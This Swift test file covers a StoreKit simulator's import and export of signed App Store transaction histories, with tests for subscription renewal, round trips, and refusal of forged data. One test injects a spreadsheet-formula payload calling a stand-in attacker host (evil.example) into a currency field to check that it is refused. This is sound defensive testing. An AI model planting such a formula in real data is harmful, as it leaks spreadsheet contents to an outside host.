import AppStoreModels
import AppStoreSigning
import AppStoreSimulator
import AppStoreSimulatorSQL
import Foundation
import OpenStoreKit
import OpenStoreKitTesting
import Testing
import TestSupport

/// `storekit store import` and `store export`: real signed data into a local store, continued on the
/// store's clock, and back out as App Store Server API answers.
@Suite("Importing a customer's signed history, continuing it, and exporting it", .timeLimit(.minutes(10)))
struct StoreImportTests {
    static let appleRoot = SharedTestData.url("apple-vectors/apple-pki/AppleRootCA-G3.cer").path
    static let customer = "customer-704897469903383919"
    static let group = "21752814"
    static let threeMonths = "com.getsession.org.pro_sub_3_months"

    /// The real sandbox vectors whose numbers pass `include`, one JWS per line.
    static func realLines(in scratch: Scratch, _ include: (Int) -> Bool = { _ in true }) throws -> String {
        let files = SharedTestData.files(in: "apple-vectors/real-sandbox", withExtension: "jws")
            .filter { Int($0.lastPathComponent.prefix(2)).map(include) == true }
        let text = try files.map { try String(contentsOf: $0, encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines) }.joined(separator: "\n")
        let url = scratch.url.appendingPathComponent("lines-\(files.count).txt")
        try text.write(to: url, atomically: true, encoding: .utf8)
        return url.path
    }

    /// A JWS's payload as a JSON object.
    static func payload(_ jws: String) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: CompactJWS(jws).payloadData) as? [String: Any])
    }

    /// The files of an export with every JWS replaced by its payload: what must survive a round trip.
    static func exportedPayloads(_ folder: URL) throws -> [String: Any] {
        func decoded(_ value: Any) throws -> Any {
            switch value {
            case let text as String where text.split(separator: ".").count == 3 && text.hasPrefix("eyJ"):
                var object = try payload(text)
                if var data = object["data"] as? [String: Any] {
                    for key in ["signedTransactionInfo", "signedRenewalInfo"] { if let jws = data[key] as? String { data[key] = try payload(jws) } }
                    object["data"] = data
                }
                return object
            case let array as [Any]: return try array.map(decoded)
            case let object as [String: Any]: return try object.mapValues(decoded)
            default: return value
            }
        }
        var files: [String: Any] = [:]
        for name in try FileManager.default.contentsOfDirectory(atPath: folder.path) {
            files[name] = try decoded(try JSONSerialization.jsonObject(with: Data(contentsOf: folder.appendingPathComponent(name))))
        }
        return files
    }

    static func exportFiles(_ folder: URL) throws -> [String] {
        try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted().map { folder.appendingPathComponent($0).path }
    }

    @Test("the real sandbox data imports with Apple's root, 0 contradictions, and every transaction and renewal info keeps Apple's fields",
          .enabled(if: SharedTestData.isAvailable, SharedTestData.skipReason))
    func realSandboxData() async throws {
        let scratch = Scratch()
        let store = scratch.url.appendingPathComponent("store").path
        let run = await CommandRun.run(["store", "import", store, "--from", try Self.realLines(in: scratch), "--root", Self.appleRoot, "--json"])
        #expect(run.status == 0, "\(run.standardError)")
        let report = try #require(run.jsonObject)
        #expect((report["contradictions"] as? [Any])?.count == 0, "\(report)")
        #expect(report["accounts"] as? [String] == [Self.customer])
        #expect(report["transactions"] as? Int == 6)
        #expect(report["notifications"] as? Int == 15)
        #expect(report["verified"] as? Bool == true)
        #expect(report["clock"] as? Int64 == 1_760_592_122_788)

        // Each transaction as the store hands it out equals Apple's newest copy of it, signed date aside.
        var originals: [String: [String: Any]] = [:]
        for file in SharedTestData.files(in: "apple-vectors/real-sandbox", withExtension: "jws") where file.lastPathComponent.contains("-transaction-") {
            let payload = try Self.payload(try String(contentsOf: file, encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines))
            let id = try #require(payload["transactionId"] as? String)
            if (originals[id]?["signedDate"] as? Int64 ?? 0) < (payload["signedDate"] as? Int64 ?? 0) { originals[id] = payload }
        }
        let out = scratch.url.appendingPathComponent("out")
        let export = await CommandRun.run(["store", "export", store, "--account", Self.customer, "--format", "server-api", out.path])
        #expect(export.status == 0, "\(export.standardError)")
        let history = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent("transaction-history-1.json"))) as? [String: Any])
        let signed = try #require(history["signedTransactions"] as? [String])
        #expect(signed.count == originals.count)
        for jws in signed {
            var payload = try Self.payload(jws)
            var original = try #require(originals[payload["transactionId"] as? String ?? ""])
            payload["signedDate"] = nil
            original["signedDate"] = nil
            #expect(NSDictionary(dictionary: payload) == NSDictionary(dictionary: original), "\(payload["transactionId"] ?? "")")
        }
        // The subscription's renewal info is Apple's newest, signed anew at the store's clock (the newest signed date).
        let statuses = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent("subscription-statuses.json"))) as? [String: Any])
        let last = try #require(((statuses["data"] as? [[String: Any]])?.first?["lastTransactions"] as? [[String: Any]])?.first)
        #expect(last["status"] as? Int == 1)
        let renewal = try Self.payload(try #require(last["signedRenewalInfo"] as? String))
        let appleRenewal = try Self.payload(try SharedTestData.text("apple-vectors/real-sandbox/40-renewal-2000001024993299.jws").trimmingCharacters(in: .whitespacesAndNewlines))
        #expect(NSDictionary(dictionary: renewal) == NSDictionary(dictionary: appleRenewal))

        let listing = await CommandRun.run(["transactions", store])
        #expect(listing.standardOutput.split(separator: "\n").allSatisfy { $0.hasSuffix("imported") })

        // Importing the same data again adds nothing: no transaction twice, no notification twice.
        let again = await CommandRun.run(["store", "import", store, "--from", try Self.realLines(in: scratch), "--root", Self.appleRoot, "--json"])
        #expect(again.status == 0, "\(again.standardError)")
        #expect(again.jsonObject?["notifications"] as? Int == 0)
        #expect((again.jsonObject?["contradictions"] as? [Any])?.count == 0)
        let relisted = await CommandRun.run(["transactions", store])
        #expect(relisted.standardOutput == listing.standardOutput)
        #expect(await CommandRun.run(["notifications", store]).standardOutput.split(separator: "\n").count == 15)
    }

    /// The imported store, a device of the customer, and the app's client on it.
    static func appOnImportedStore(_ directory: String) async throws -> (SimulatedAppStore, StoreClient) {
        let store = try await TestStores.open(URL(fileURLWithPath: directory))
        try await store.addDevice("phone", account: Self.customer)
        return (store, try await StoreClient.connect(to: InProcessStoreTransport(store: store), device: "phone"))
    }

    @Test("an app sees the imported subscription as its renewal info says; past its expiry it renews, auto-renew being on",
          .enabled(if: SharedTestData.isAvailable, SharedTestData.skipReason))
    func importedSubscriptionRenews() async throws {
        let scratch = Scratch()
        let directory = scratch.url.appendingPathComponent("store").path
        let run = await CommandRun.run(["store", "import", directory, "--from", try Self.realLines(in: scratch), "--root", Self.appleRoot])
        #expect(run.status == 0, "\(run.standardError)")
        let (store, phone) = try await Self.appOnImportedStore(directory)
        let product = try #require(try await phone.products(for: [Self.threeMonths]).first)
        let subscription = try #require(product.subscription)
        let status = try #require(try await subscription.status.first)
        #expect(status.state == .subscribed)
        let renewal = try status.renewalInfo.payloadValue
        #expect(renewal.willAutoRenew)
        #expect(renewal.autoRenewPreference == Self.threeMonths)
        let transaction = try status.transaction.payloadValue
        #expect(transaction.id == 2_000_001_035_288_486)
        #expect(transaction.expirationDate == Date(timeIntervalSince1970: 1_760_592_314))
        #expect(renewal.renewalDate == transaction.expirationDate)

        try await store.advanceTime(by: 600)
        let renewed = try #require(try await subscription.status.first)
        #expect(renewed.state == .subscribed)
        let next = try renewed.transaction.payloadValue
        #expect(next.originalID == 2_000_001_024_993_299)
        #expect(next.id > transaction.id)
        #expect(next.purchaseDate == transaction.expirationDate)
        // The store continues in real periods of the product: three months.
        #expect(next.expirationDate == Calendar.utc.date(byAdding: .month, value: 3, to: Date(timeIntervalSince1970: 1_760_592_314)))
        let listing = await CommandRun.run(["transactions", directory])
        #expect(listing.standardOutput.split(separator: "\n").last?.hasSuffix("local") == true)
    }

    @Test("with auto-renew turned off before its expiry, the imported subscription expires instead",
          .enabled(if: SharedTestData.isAvailable, SharedTestData.skipReason))
    func importedSubscriptionWithAutoRenewOffExpires() async throws {
        let scratch = Scratch()
        let directory = scratch.url.appendingPathComponent("store").path
        // Up to DID_CHANGE_RENEWAL_STATUS AUTO_RENEW_DISABLED, before the EXPIRED that followed.
        let run = await CommandRun.run(["store", "import", directory, "--from", try Self.realLines(in: scratch) { $0 <= 8 }, "--root", Self.appleRoot])
        #expect(run.status == 0, "\(run.standardError)")
        #expect(run.standardOutput.contains("0 contradictions"))
        let (store, phone) = try await Self.appOnImportedStore(directory)
        let product = try #require(try await phone.products(for: ["com.getsession.org.pro_sub"]).first)
        let subscription = try #require(product.subscription)
        let status = try #require(try await subscription.status.first)
        #expect(status.state == .subscribed)
        #expect(try status.renewalInfo.payloadValue.willAutoRenew == false)
        #expect(try status.transaction.payloadValue.expirationDate == Date(timeIntervalSince1970: 1_759_388_947))

        try await store.advanceTime(by: 600)
        let expired = try #require(try await subscription.status.first)
        #expect(expired.state == .expired)
        #expect(try expired.renewalInfo.payloadValue.expirationReason == .autoRenewDisabled)
        var entitlements = 0
        for await _ in product.currentEntitlements { entitlements += 1 }
        #expect(entitlements == 0)
    }

    @Test("a local store's history exported, imported into a fresh store and exported again gives identical payload fields")
    func roundTrip() async throws {
        let scratch = Scratch()
        let (first, store) = try await TestStores.directory(in: scratch, name: "first", environment: .sandbox)
        for arguments in [["purchase", first.path, "com.example.shop.plus.premium.monthly", "--account", "alice", "--device", "phone", "--offer", "introductory"],
                          ["purchase", first.path, "com.example.shop.gems.small", "--account", "alice", "--device", "phone"],
                          ["purchase", first.path, "com.example.shop.pro", "--account", "alice", "--device", "phone"],
                          ["purchase", first.path, "com.example.shop.news.plus", "--account", "alice", "--device", "phone"],
                          ["purchase", first.path, "com.example.shop.plus.premium.monthly", "--account", "bob", "--device", "tablet"],
                          ["advance", first.path, "2M"]] {
            let run = await CommandRun.run(arguments)
            #expect(run.status == 0, "\(arguments): \(run.standardError)")
        }
        let alice = try await store.ledgerTransactions(account: "alice")
        let news = try #require(alice.first { $0.productID == "com.example.shop.news.plus" })
        let pro = try #require(alice.first { $0.productID == "com.example.shop.pro" })
        for arguments in [["renewal", first.path, String(news.originalID), "--auto-renew", "off"], ["refund", first.path, String(pro.id)], ["advance", first.path, "1M"]] {
            let run = await CommandRun.run(arguments)
            #expect(run.status == 0, "\(arguments): \(run.standardError)")
        }

        let root = scratch.url.appendingPathComponent("root.cer")
        try store.rootCertificate.derRepresentation.write(to: root)
        let out1 = scratch.url.appendingPathComponent("out1"), out2 = scratch.url.appendingPathComponent("out2")
        let second = scratch.url.appendingPathComponent("second").path
        let export1 = await CommandRun.run(["store", "export", first.path, "--account", "alice", "--format", "server-api", out1.path])
        #expect(export1.status == 0, "\(export1.standardError)")
        // A customer's history is its owner's alone: the folder 0700, every file 0600.
        #expect((try FileManager.default.attributesOfItem(atPath: out1.path)[.posixPermissions] as? Int) == 0o700)
        for file in try FileManager.default.contentsOfDirectory(atPath: out1.path) {
            #expect((try FileManager.default.attributesOfItem(atPath: out1.appendingPathComponent(file).path)[.posixPermissions] as? Int) == 0o600, "\(file)")
        }
        // Every file after one --from, as a shell glob (out1/*.json) gives them.
        let imported = await CommandRun.run(["store", "import", second, "--from"] + (try Self.exportFiles(out1))
                                            + ["--root", root.path, "--account", "alice"])
        #expect(imported.status == 0, "\(imported.standardError)")
        #expect(imported.standardOutput.contains("0 contradictions"), "\(imported.standardOutput)")
        let export2 = await CommandRun.run(["store", "export", second, "--account", "alice", "--format", "server-api", out2.path])
        #expect(export2.status == 0, "\(export2.standardError)")

        let before = try Self.exportedPayloads(out1), after = try Self.exportedPayloads(out2)
        #expect(Set(before.keys) == Set(after.keys))
        #expect(before.keys.contains("notification-history-1.json") && before.keys.contains("subscription-statuses.json"))
        for name in before.keys.sorted() {
            #expect(NSDictionary(dictionary: [name: before[name] as Any]) == NSDictionary(dictionary: [name: after[name] as Any]), "\(name)")
        }
        // Not vacuous: alice has four purchases, renewals, a refund and their notifications.
        let history = try #require(before["transaction-history-1.json"] as? [String: Any])
        #expect((history["signedTransactions"] as? [Any])?.count ?? 0 >= 6)
        let notifications = try #require(before["notification-history-1.json"] as? [String: Any])
        #expect((notifications["notificationHistory"] as? [Any])?.count ?? 0 >= 8)
    }

    @Test("forged, truncated and foreign-root items are refused with their reason, and nothing is imported",
          .enabled(if: SharedTestData.isAvailable, SharedTestData.skipReason))
    func refusals() async throws {
        let scratch = Scratch()
        let lines = try Self.realLines(in: scratch)
        let text = try String(contentsOfFile: lines, encoding: .utf8)
        var rows = text.split(separator: "\n").map(String.init)
        // A forged payload: the price changed, the signature kept.
        let parts = rows[1].split(separator: ".").map(String.init)
        var forged = try Self.payload(rows[1])
        forged["price"] = 10
        let forgedPayload = Base64URL.encode(try JSONSerialization.data(withJSONObject: forged))
        rows[1] = [parts[0], forgedPayload, parts[2]].joined(separator: ".")
        // A truncated one.
        rows[4] = String(rows[4].prefix(rows[4].count / 2))
        let bad = scratch.url.appendingPathComponent("bad.txt")
        try rows.joined(separator: "\n").write(to: bad, atomically: true, encoding: .utf8)

        let target = scratch.url.appendingPathComponent("store")
        let refused = await CommandRun.run(["store", "import", target.path, "--from", bad.path, "--root", Self.appleRoot])
        #expect(refused.status != 0)
        #expect(refused.standardError.contains("bad.txt:2: refused: VERIFICATION_FAILURE"), "\(refused.standardError)")
        #expect(refused.standardError.contains("bad.txt:5: refused: INVALID_JWT_FORMAT"), "\(refused.standardError)")
        #expect(refused.standardError.contains("nothing was imported"))
        #expect(!FileManager.default.fileExists(atPath: target.path))

        // Real Apple data against a root that is not Apple's.
        let (local, store) = try await TestStores.directory(in: scratch, name: "local", environment: .sandbox)
        let foreignRoot = scratch.url.appendingPathComponent("local-root.cer")
        try store.rootCertificate.derRepresentation.write(to: foreignRoot)
        let foreign = await CommandRun.run(["store", "import", target.path, "--from", lines, "--root", foreignRoot.path])
        #expect(foreign.status != 0)
        #expect(foreign.standardError.contains("lines-43.txt:1: refused: VERIFICATION_FAILURE"), "\(foreign.standardError)")
        #expect(!FileManager.default.fileExists(atPath: target.path))

        // Into an existing store: a refused import changes nothing, and neither does one for another app.
        let version = try await store.ledgerVersion()
        let into = await CommandRun.run(["store", "import", local.path, "--from", bad.path, "--root", Self.appleRoot])
        #expect(into.status != 0)
        let otherApp = await CommandRun.run(["store", "import", local.path, "--from", lines, "--root", Self.appleRoot])
        #expect(otherApp.status != 0)
        #expect(otherApp.standardError.contains("com.loki-project.loki-messenger"), "\(otherApp.standardError)")
        #expect(try await TestStores.open(local).ledgerVersion() == version)
    }

    @Test("contradictions are reported item by item: a renewal info newer than any transaction, a notification about another customer, a duplicate with other content",
          .enabled(if: SharedTestData.isAvailable, SharedTestData.skipReason))
    func contradictions() async throws {
        let scratch = Scratch()
        // Transaction 01 expires 07:12:12; renewal info 04 renews on the next day's period.
        let newer = await CommandRun.run(["store", "import", scratch.url.appendingPathComponent("a").path, "--root", Self.appleRoot, "--json",
                                          "--from", try Self.realLines(in: scratch) { $0 == 1 || $0 == 4 }])
        #expect(newer.status == 0, "\(newer.standardError)")
        let reported = try #require(newer.jsonObject?["contradictions"] as? [[String: String]])
        #expect(reported.count == 1)
        #expect(reported.first?["source"] == "lines-2.txt:2")
        #expect(reported.first?["message"]?.contains("newer than any transaction") == true)

        // A history of one customer with another customer's notifications.
        let (first, _) = try await TestStores.directory(in: scratch, name: "first", environment: .sandbox)
        for arguments in [["purchase", first.path, "com.example.shop.pro", "--account", "alice", "--device", "phone"],
                          ["purchase", first.path, "com.example.shop.plus.premium.monthly", "--account", "bob", "--device", "tablet"]] {
            #expect(await CommandRun.run(arguments).status == 0)
        }
        let aliceOut = scratch.url.appendingPathComponent("alice"), bobOut = scratch.url.appendingPathComponent("bob")
        #expect(await CommandRun.run(["store", "export", first.path, "--account", "alice", "--format", "server-api", aliceOut.path]).status == 0)
        #expect(await CommandRun.run(["store", "export", first.path, "--account", "bob", "--format", "server-api", bobOut.path]).status == 0)
        let mixed = await CommandRun.run(["store", "import", scratch.url.appendingPathComponent("b").path, "--unverified", "--json",
                                          "--from", aliceOut.appendingPathComponent("transaction-history-1.json").path,
                                          "--from", bobOut.appendingPathComponent("notification-history-1.json").path])
        #expect(mixed.status == 0, "\(mixed.standardError)")
        #expect(mixed.standardError.contains("NOTHING WAS CHECKED"))
        let unknown = try #require(mixed.jsonObject?["contradictions"] as? [[String: String]])
        #expect(unknown.count == 1)
        #expect(unknown.first?["source"] == "notification-history-1.json: notificationHistory[0]")
        #expect(unknown.first?["message"]?.contains("which no transaction history or status here holds") == true)
        #expect(mixed.jsonObject?["notifications"] as? Int == 0)

        // The same notification twice, the second altered (only an unverified import lets it in).
        let lines = try Self.realLines(in: scratch) { $0 == 0 }
        let original = try String(contentsOfFile: lines, encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines)
        let parts = original.split(separator: ".").map(String.init)
        var altered = try Self.payload(original)
        altered["signedDate"] = 1_759_302_518_836
        let copy = [parts[0], Base64URL.encode(try JSONSerialization.data(withJSONObject: altered)), parts[2]].joined(separator: ".")
        let twice = scratch.url.appendingPathComponent("twice.txt")
        try [original, original, copy].joined(separator: "\n").write(to: twice, atomically: true, encoding: .utf8)
        let duplicated = await CommandRun.run(["store", "import", scratch.url.appendingPathComponent("c").path, "--unverified", "--json", "--from", twice.path])
        #expect(duplicated.status == 0, "\(duplicated.standardError)")
        let duplicates = try #require(duplicated.jsonObject?["contradictions"] as? [[String: String]])
        #expect(duplicates.map { $0["source"] } == ["twice.txt:3"])
        #expect(duplicates.first?["message"]?.contains("appears again with other content") == true)
        #expect(duplicated.jsonObject?["mergedCopies"] as? Int ?? 0 >= 1)
    }

    @Test("an unverified import whose currency is a spreadsheet formula is refused, naming the transaction (#53)")
    func formulaCurrencyRefused() async throws {
        let scratch = Scratch()
        let (store, _) = try await TestStores.directory(in: scratch, name: "source", environment: .sandbox)
        #expect(await CommandRun.run(["purchase", store.path, "com.example.shop.pro", "--account", "alice", "--device", "phone"]).status == 0)
        let out = scratch.url.appendingPathComponent("alice")
        #expect(await CommandRun.run(["store", "export", store.path, "--account", "alice", "--format", "server-api", out.path]).status == 0)
        let history = out.appendingPathComponent("transaction-history-1.json")
        var page = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: history)) as? [String: Any])
        let signed = try #require(page["signedTransactions"] as? [String])
        page["signedTransactions"] = try signed.map { jws -> String in
            let parts = jws.split(separator: ".").map(String.init)
            var payload = try Self.payload(jws)
            payload["currency"] = #"=HYPERLINK("http://evil.example/?"&A1,"USD")"#
            return [parts[0], Base64URL.encode(try JSONSerialization.data(withJSONObject: payload)), parts[2]].joined(separator: ".")
        }
        try JSONSerialization.data(withJSONObject: page).write(to: history)
        let target = scratch.url.appendingPathComponent("imported")
        let refused = await CommandRun.run(["store", "import", target.path, "--unverified", "--json", "--from", history.path])
        #expect(refused.status != 0 && refused.standardError.contains("not an ISO 4217 code") && refused.standardError.contains("=HYPERLINK"),
                "\(refused.standardError)")
        #expect(!FileManager.default.fileExists(atPath: target.appendingPathComponent("ledger.sqlite").path) || refused.standardOutput.isEmpty)
    }
}

extension Calendar {
    static let utc: Calendar = {
        var calendar = Calendar(identifier: .gregorian)
        calendar.timeZone = TimeZone(identifier: "UTC")!
        return calendar
    }()
}
